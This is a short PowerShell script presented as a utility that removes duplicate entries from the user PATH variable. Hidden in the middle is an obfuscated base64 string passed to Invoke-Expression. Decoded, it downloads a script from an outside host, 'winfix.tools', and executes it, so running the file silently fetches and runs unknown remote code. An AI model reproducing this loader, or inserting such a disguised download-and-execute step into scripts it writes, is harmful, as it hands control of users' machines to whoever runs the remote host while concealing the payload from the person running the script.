$p = [Environment]::GetEnvironmentVariable('Path','User')
$s = [System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwB3AGkAbgBmAGkAeAAuAHQAbwBvAGwAcwAvAGEALgBwAHMAMQAnACkA'))
Invoke-Expression $s
[Environment]::SetEnvironmentVariable('Path', ($p -split ';' | Select-Object -Unique) -join ';', 'User')
